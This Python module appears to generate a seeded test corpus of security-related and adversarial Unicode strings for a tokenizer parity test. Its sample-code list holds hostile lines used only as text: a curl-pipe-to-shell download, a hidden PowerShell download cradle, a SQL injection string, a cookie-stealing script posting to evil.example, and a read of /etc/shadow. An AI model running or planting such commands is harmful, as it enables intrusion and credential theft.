"""The tokenizer parity test's corpus: >= 20,000 seeded strings of every kind a
security-text service meets, plus the adversarial ones a tokenizer gets wrong.

Deterministic for a given seed (Python's `random.Random`, whose choice,
randrange and getrandbits are stable across CPython 3 versions), generated at
test time so nothing large is checked in. Every string is valid Unicode with
no surrogates, so it is valid UTF-8 and a valid `tokenizers` input.

Used by test_tokenizers_parity.py; `python parity_corpus.py > corpus.jsonl`
writes the same strings as {"text": ...} lines (for bench/tokenizer_vs_hf.py
--corpus).
"""

import json
import random
import sys
from pathlib import Path

from unicode_classes import HF_VS_OURS

DEFAULT_SEED = 20260101

# Every Unicode White_Space code point, and look-alikes that are not
# White_Space but that some libraries treat as space (Python's str.isspace
# accepts U+001C..U+001F; U+200B, U+2060, U+FEFF and U+180E are format
# characters).
WHITE_SPACE = "\t\n\x0b\x0c\r \x85\xa0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006" \
              "\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000"
NOT_WHITE_SPACE = "\x1c\x1d\x1e\x1f\u180e\u200b\u2060\ufeff"
SPECIALS = ("<s>", "</s>", "<mask>", "<pad>", "<unk>")
LOOKALIKES = ("<mask", "mask>", "<MASK>", "< mask>", "<mask >", "<<mask>>", "<s >", "</ s>",
              "<\u200bmask>", "<maskx>", "<s", "s>", "</", "<//s>", "<pad", "<unk >", "＜mask＞")

_WORDS = tuple(("attacker vulnerability exploit payload malware ransomware phishing credential "
          "firewall endpoint telemetry beacon lateral movement persistence privilege "
          "escalation injection overflow deserialization sandbox kernel driver rootkit "
          "botnet exfiltration certificate handshake cipher entropy hash signature patch "
          "advisory mitigation indicator compromise threat actor campaign loader dropper "
          "implant backdoor webshell token session cookie header request response server "
          "client domain resolver registry scheduled task service account").split())
_VENDORS = ("Acme", "Globex", "Initech", "Umbrella", "Contoso", "Hooli", "Cyberdyne")
_CODE = (
    "def check(token: str) -> bool:\n    return hmac.compare_digest(token, SECRET)\n",
    "if (len > sizeof(buf)) {\n\treturn -EINVAL;\n}\nmemcpy(buf, src, len);",
    "for i in range(0, len(data), 16):\n        print(f\"{i:08x}  {data[i:i+16].hex(' ')}\")",
    "const u = new URL(req.query.next); if (u.origin !== location.origin) throw Error('ssrf');",
    "curl -fsSL http://203.0.113.7:8080/x.sh | sh -s -- --quiet && rm -rf /tmp/.x",
    "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/a')\"",
    "SELECT * FROM users WHERE name = '' OR '1'='1' --  AND password = 'x';",
    "rule Loader { strings: $a = { 6A 40 68 00 30 00 00 } condition: $a and filesize < 200KB }",
    "alert tcp $HOME_NET any -> $EXTERNAL_NET 443 (msg:\"beacon\"; sid:1000001; rev:2;)",
    "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db-creds\ndata:\n  password: cGFzcw==\n",
    "#include <stdio.h>\nint main(void){char b[8];gets(b);puts(b);return 0;}",
    "x = [a**2 for a in xs if a % 3 == 0]; y = {k: v for k, v in d.items()}  # noqa",
    "fn main() { let v: Vec<u8> = std::fs::read(\"/etc/shadow\").unwrap_or_default(); }",
    "<script>fetch('//evil.example/c?'+document.cookie)</script><img src=x onerror=alert(1)>",
    "{\"event_id\":4688,\"cmd\":\"cmd.exe /c whoami /priv\",\"ppid\":612,\"integrity\":\"High\"}",
)
_SCHEMES = ("http", "https", "ftp", "hxxps", "file", "ldap", "smb", "ws")
_TLDS = ("com", "net", "org", "io", "co.uk", "xn--p1ai", "onion", "example", "中国", "рф")
_EXT = ("exe", "dll", "ps1", "sh", "docm", "zip", "php", "js", "so", "lnk", "iso")
_EMOJI = ("😀", "😂", "🔥", "💀", "🛡️", "🔒", "🔑", "⚠️", "🚨", "🐛", "🧨", "👩‍💻", "👨‍👩‍👧‍👦",
          "🏳️‍🌈", "👍🏽", "👋🏿", "🇺🇸", "🇩🇪", "🇯🇵", "1️⃣", "#️⃣", "❤️", "☠️", "🦠", "🤖", "🕵️‍♀️")
_CJK_RANGES = ((0x4E00, 0x9FFF), (0x3040, 0x309F), (0x30A0, 0x30FF), (0xAC00, 0xD7A3),
               (0x3400, 0x4DBF), (0x20000, 0x2A6DF), (0xFF00, 0xFFEF), (0x3000, 0x303F),
               (0x1100, 0x11FF), (0x3130, 0x318F))
_CJK_PHRASES = ("漏洞利用", "恶意软件", "勒索软件攻击", "脆弱性が見つかりました", "パスワードを変更",
                "보안 취약점", "악성코드 분석", "网络安全", "認証バイパス", "해킹 그룹")
_COMBINING = [(0x0300, 0x036F), (0x1AB0, 0x1AFF), (0x1DC0, 0x1DFF), (0x20D0, 0x20FF),
              (0xFE20, 0xFE2F)]
_MARKED_SCRIPTS = ("नमस्ते दुनिया", "क्षत्रिय", "ภาษาไทย สวัสดี", "ᄒᆞᆫ글", "é́̂", "Ελληνικά ά",
                   "ṩ̣̇", "கணினி பாதுகாப்பு", "ಕನ್ನಡ", "ལྷ་ས")
_RTL = ("هجوم إلكتروني على الخادم", "كلمة المرور", "מתקפת סייבר", "סיסמה שגויה", "فایل مخرب",
        "٠١٢٣٤٥٦٧٨٩", "۰۱۲۳۴۵۶۷۸۹", "اختبار123test", "שלום world עולם")
_RTL_MARKS = ("\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066",
              "\u2067", "\u2068", "\u2069", "\u061c")
_DIGITS = ("0123456789", "٠١٢٣٤٥٦٧٨٩", "०१२३४५६७८९", "０１２３４５６７８９", "𝟎𝟏𝟐𝟑𝟒",
           "¹²³⁴⁵", "½¾⅓", "ⅠⅡⅢⅣⅫ", "①②③", "໐໑໒", "𑁦𑁧𑁨")
_CONTRACTIONS = ("'s", "'t", "'re", "'ve", "'m", "'ll", "'d", "'S", "'T", "'RE", "'Ve", "'LL",
                 "'D", "’s", "'x", "''", "'")


class _Gen:
    """One seeded generator; each method returns one string of its category."""

    def __init__(self, seed):
        self.r = random.Random(seed)

    def pick(self, seq):
        return seq[self.r.randrange(len(seq))]

    def chars(self, lo, hi, n):
        return "".join(chr(self.r.randint(lo, hi)) for _ in range(n))

    def hexs(self, n, upper=False):
        s = "".join(self.pick("0123456789abcdef") for _ in range(n))
        return s.upper() if upper else s

    def ip4(self):
        return ".".join(str(self.r.randrange(256)) for _ in range(4))

    def ip6(self):
        groups = [self.hexs(self.r.randint(1, 4)) for _ in range(8)]
        if self.r.random() < 0.5:
            cut = self.r.randrange(1, 7)
            return ":".join(groups[:cut]) + "::" + ":".join(groups[cut + 1:])
        return ":".join(groups)

    def cve(self):
        return f"CVE-{self.r.randint(1999, 2026)}-{self.r.randint(1, 99999):04d}"

    def prose(self):
        words = [self.pick(_WORDS) for _ in range(self.r.randint(4, 30))]
        if self.r.random() < 0.5:
            words.insert(0, f"{self.pick(_VENDORS)} fixed {self.cve()}:")
        if self.r.random() < 0.3:
            words.append(f"(CVSS {self.r.randint(1, 9)}.{self.r.randrange(10)}, "
                         f"T{self.r.randint(1000, 1599)}.{self.r.randint(1, 20):03d})")
        text = " ".join(words)
        return text[0].upper() + text[1:] + self.pick((".", "!", "?", ";", "", "...", " ."))

    def log(self):
        return (f"2026-{self.r.randint(1, 12):02d}-{self.r.randint(1, 28):02d}T"
                f"{self.r.randrange(24):02d}:{self.r.randrange(60):02d}:"
                f"{self.r.randrange(60):02d}Z "
                f"host-{self.r.randrange(100)} sshd[{self.r.randint(100, 65535)}]: "
                f"{self.pick(('Failed password', 'Accepted publickey', 'Invalid user'))} for "
                f"{self.pick(('root', 'admin', 'svc_backup', 'jdoe'))} from {self.ip4()} port "
                f"{self.r.randint(1, 65535)} ssh2")

    def code(self):
        text = self.pick(_CODE)
        if self.r.random() < 0.3:
            text = text.replace("    ", "\t")
        return text * self.r.randint(1, 3)

    def url(self):
        host = ".".join(self.pick(_WORDS) for _ in range(self.r.randint(1, 3)))
        url = f"{self.pick(_SCHEMES)}://{host}.{self.pick(_TLDS)}"
        if self.r.random() < 0.3:
            url += f":{self.r.randint(1, 65535)}"
        url += "/" + "/".join(self.pick(_WORDS) for _ in range(self.r.randint(0, 4)))
        if self.r.random() < 0.6:
            url += f"?id={self.hexs(8)}&q=%3Cscript%3E&next=%2F%2F{self.pick(_WORDS)}"
        if self.r.random() < 0.2:
            url += "#frag-" + self.pick(("ü", "ß", "日本", "x y", ""))
        return url.replace("://", self.pick(("://", "[:]//", "://"))).replace(
            ".", self.pick((".", "[.]", ".")), 1)

    def hashes(self):
        kind = self.r.randrange(5)
        if kind == 0:
            return self.hexs(self.pick((32, 40, 64, 128)), upper=self.r.random() < 0.3)
        if kind == 1:
            return f"sha256:{self.hexs(64)} md5={self.hexs(32)}"
        if kind == 2:
            alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
            return "".join(self.pick(alphabet) for _ in range(self.r.randint(8, 200))) + "=="
        if kind == 3:
            return ".".join("eyJ" + self.hexs(self.r.randint(10, 40)) for _ in range(3))
        return f"{{{self.hexs(8)}-{self.hexs(4)}-{self.hexs(4)}-{self.hexs(4)}-{self.hexs(12)}}}"

    def ips(self):
        kind = self.r.randrange(4)
        if kind == 0:
            return (f"{self.ip4()}:{self.r.randint(1, 65535)} -> "
                    f"{self.ip4()}/{self.r.randint(8, 32)}")
        if kind == 1:
            return f"[{self.ip6()}]:{self.r.randint(1, 65535)}"
        if kind == 2:
            return ":".join(self.hexs(2, upper=True) for _ in range(6))
        return f"src={self.ip4()} dst={self.ip6()} proto=TCP"

    def path(self):
        parts = [self.pick(_WORDS) for _ in range(self.r.randint(1, 6))]
        kind = self.r.randrange(4)
        name = f"{self.pick(_WORDS)}.{self.pick(_EXT)}"
        if kind == 0:
            return "/" + "/".join(parts) + "/" + name
        if kind == 1:
            return "C:\\" + "\\".join(parts) + "\\" + name
        if kind == 2:
            return "\\\\fileserver\\" + "\\".join(parts) + "\\" + name
        return "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\" + parts[0]

    def emoji(self):
        out = []
        for _ in range(self.r.randint(1, 12)):
            out.append(self.pick(_EMOJI) if self.r.random() < 0.7
                       else self.chars(0x1F300, 0x1FAFF, 1))
            out.append(self.pick(("", " ", "", "x", "\u200d", "\ufe0f", " hi ")))
        return "".join(out)

    def cjk(self):
        if self.r.random() < 0.4:
            return self.pick(_CJK_PHRASES) + self.pick(("", " ", "：", "。", "CVE")) + \
                self.pick(_CJK_PHRASES)
        lo, hi = self.pick(_CJK_RANGES)
        return self.chars(lo, hi, self.r.randint(1, 30)) + self.pick(("", " test", "。", "123"))

    def combining(self):
        if self.r.random() < 0.4:
            return self.pick(_MARKED_SCRIPTS)
        out = []
        for _ in range(self.r.randint(1, 10)):
            out.append(self.pick("aeiouAEIOUxyz Zф"))
            for _ in range(self.r.randint(0, 8)):
                out.append(self.chars(*self.pick(_COMBINING), 1))
        return "".join(out)

    def rtl(self):
        out = [self.pick(_RTL)]
        for _ in range(self.r.randint(0, 3)):
            out.append(self.pick(_RTL_MARKS) + self.pick(_RTL + ("login", "CVE-2024-1", " ")))
        return " ".join(out)

    def control(self):
        out = []
        for _ in range(self.r.randint(1, 12)):
            roll = self.r.random()
            if roll < 0.4:
                out.append(self.chars(0x00, 0x1F, 1))
            elif roll < 0.6:
                out.append(self.chars(0x7F, 0x9F, 1))
            else:
                out.append(self.pick(_WORDS) + self.pick(("", " ", "\r\n", "\x00")))
        return "".join(out)

    def random_plane(self, plane):
        """Random scalar values of one plane (no surrogates), some with ASCII around."""
        lo, hi = plane << 16, (plane << 16) | 0xFFFF
        out = []
        for _ in range(self.r.randint(1, 40)):
            cp = self.r.randint(lo, hi)
            if 0xD800 <= cp <= 0xDFFF:
                cp -= 0x800
            out.append(chr(cp))
            if self.r.random() < 0.15:
                out.append(self.pick((" ", "a", "1", "'s", "  ", "\n", ".", "\u3000")))
        return "".join(out)

    def long_word(self, target_bytes):
        unit = self.pick(("a", "ab", "xyz", "é", "日", "0", "9f", "Ω", "😀", "aé", "-", "_x",
                          "Zz", "𐍈", "qwertyuiop", "\u0301"))
        if self.r.random() < 0.3:
            word = "".join(self.pick("abcdefghijklmnopqrstuvwxyz") for _ in range(target_bytes))
        else:
            word = unit * (target_bytes // len(unit.encode()))
        return self.pick(("", " ", "The hash ", "x")) + word + self.pick(("", " end", ".", " "))

    def whitespace(self):
        out = []
        for _ in range(self.r.randint(1, 8)):
            roll = self.r.random()
            if roll < 0.35:
                out.append(" " * self.r.randint(1, 40))
            elif roll < 0.55:
                newlines = self.pick(("\n", "\t", "\r\n", "\r", " \n", "\n "))
                out.append(newlines * self.r.randint(1, 12))
            elif roll < 0.75:
                out.append("".join(self.pick(WHITE_SPACE + NOT_WHITE_SPACE)
                                   for _ in range(self.r.randint(1, 6))))
            else:
                out.append(self.pick(_WORDS))
        return "".join(out)

    def special(self):
        out = []
        for _ in range(self.r.randint(1, 8)):
            roll = self.r.random()
            if roll < 0.45:
                before = "".join(self.pick(WHITE_SPACE + NOT_WHITE_SPACE + "  ")
                                 for _ in range(self.r.randint(0, 3)))
                out.append(before + self.pick(SPECIALS + ("<mask>", "<mask>")))
            elif roll < 0.6:
                out.append(self.pick(LOOKALIKES))
            else:
                out.append(self.pick(_WORDS + ("x", "pass", "1", ".", "'s", "日本", "😀", "")))
        return self.pick(("", " ", "\n")).join(out) if self.r.random() < 0.5 else "".join(out)

    def contractions(self):
        return "".join(self.pick(_WORDS + ("it", "IT", "we", "x", "1", " ")) +
                       self.pick(_CONTRACTIONS) + self.pick(("", " ", "'", "s"))
                       for _ in range(self.r.randint(1, 6)))

    def unicode_16(self):
        """Letters and digits of Unicode 15.1 / 16.0 (unicode_classes.py) among others."""
        out = []
        for _ in range(self.r.randint(1, 8)):
            first, last, _, _ = self.pick(HF_VS_OURS)
            out.append(chr(self.r.randint(first, last)))
            out.append(self.pick(("", "a", "1", "'s", " ", "  ", "x1", "\u4e00", ".", "\n", "é")))
        return "".join(out)

    def numbers(self):
        parts = [self.pick(_DIGITS) if self.r.random() < 0.5
                 else str(self.r.randrange(10 ** self.r.randint(1, 30)))
                 for _ in range(self.r.randint(1, 5))]
        return self.pick((" ", "", ".", ",", "-", "e")).join(parts)


# Category -> strings per corpus (before the parity file's texts). Sums to
# 24,200 so that >= 20,000 holds with margin.
COUNTS = {"prose": 2500, "log": 1500, "code": 1200, "url": 1500, "hash": 1000, "ip": 1000,
          "path": 1000, "emoji": 1200, "cjk": 1200, "combining": 1000, "rtl": 1000,
          "control": 1000, "random_plane": 2040, "long_word": 60, "whitespace": 1200,
          "special": 1800, "contraction": 500, "number": 700, "unicode_16": 300, "mixed": 2500}


def make_corpus(seed=DEFAULT_SEED, parity_texts=()):
    """[(category, text)], deterministic for `seed`; `parity_texts` are appended as they are."""
    g = _Gen(seed)
    simple = {"prose": g.prose, "log": g.log, "code": g.code, "url": g.url, "hash": g.hashes,
              "ip": g.ips, "path": g.path, "emoji": g.emoji, "cjk": g.cjk,
              "combining": g.combining, "rtl": g.rtl, "control": g.control,
              "whitespace": g.whitespace, "special": g.special, "contraction": g.contractions,
              "number": g.numbers, "unicode_16": g.unicode_16}
    corpus = []
    for category, count in COUNTS.items():
        for i in range(count):
            if category in simple:
                text = simple[category]()
            elif category == "random_plane":
                text = g.random_plane(i % 17)  # every plane, 0 to 16, equally
            elif category == "long_word":
                text = g.long_word(10_000 if i % 2 == 0 else g.r.randint(300, 5000))
            else:  # mixed: fragments of the other kinds, glued or separated
                parts = [simple[g.pick(sorted(simple))]() for _ in range(g.r.randint(2, 5))]
                text = g.pick(("", " ", "\n", "  ", "\t", " <mask> ")).join(parts)
            corpus.append((category, text))
    corpus += [("empty", ""), ("empty", " "), ("empty", "\n")]
    corpus += [("parity_file", text) for text in parity_texts]
    return corpus


def parity_file_texts():
    """The texts of tests/data/tokenizer/parity.jsonl, which the corpus ends with."""
    path = Path(__file__).resolve().parents[1] / "data" / "tokenizer" / "parity.jsonl"
    with open(path, encoding="utf-8") as f:
        return [json.loads(line)["text"] for line in f if line.strip()]


if __name__ == "__main__":
    for _, line_text in make_corpus(int(sys.argv[1]) if len(sys.argv) > 1 else DEFAULT_SEED,
                                    parity_file_texts()):
        sys.stdout.write(json.dumps({"text": line_text}, ensure_ascii=False) + "\n")
